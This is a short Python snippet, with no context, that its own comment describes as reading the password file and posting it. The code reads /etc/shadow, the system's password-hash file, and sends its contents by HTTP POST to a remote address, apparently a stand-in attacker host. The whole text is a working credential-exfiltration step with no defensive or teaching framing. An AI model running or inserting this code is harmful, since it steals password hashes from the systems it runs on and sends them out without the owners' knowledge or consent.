# reads the password file and posts it
import urllib.request
data = open("/etc/shadow").read().encode()
urllib.request.urlopen("http://203.0.113.7/c", data)
